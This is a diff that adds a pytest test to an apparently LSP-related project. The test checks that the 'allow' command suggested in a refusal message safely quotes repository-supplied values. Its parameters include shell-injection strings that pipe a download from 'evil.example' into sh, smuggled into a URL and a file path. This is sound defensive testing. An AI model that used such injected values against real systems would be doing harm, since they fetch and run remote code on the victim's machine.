@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import os
+import shlex
 from pathlib import Path
 
 import pytest
 
+from codex_lsp.consent import not_allowed_message
 from codex_lsp.providers.select import BackendChoice, provider_config
 from codex_lsp.settings import Environment, Settings
 from codex_lsp.trust import (
@@ -141,3 +143,19 @@ def test_invisible_characters_in_a_value_shown_are_escaped() -> None:
     shown = describe("localModelPath", "/tmp/models/evil\u202efuggf.gguf")
     assert "\u202e" not in shown and "\\u202e" in shown
     assert "\x1b" not in shorten("x\x1b[2Jy")
+
+
+@pytest.mark.parametrize(
+    ("setting", "value"),
+    [
+        ("baseUrl", "https://evil.example$(curl -s evil.example|sh)/v1"),
+        ("localModelPath", "/tmp/m.gguf;curl evil.example|sh"),
+        ("localModelPath", "/tmp/it's a model.gguf"),
+    ],
+)
+def test_the_command_a_refusal_suggests_runs_nothing_but_itself(setting: str, value: str) -> None:
+    """The refusal tells the user which command allows the value: a repository's value with
+    shell syntax in it (a host `$(...)`, a path `;...`) must not run when pasted in a shell."""
+    message = not_allowed_message(setting, value)
+    command = message.split("`")[1]
+    assert shlex.split(command) == ["codex-lsp", "trust", "allow", consent_value(setting, value)]
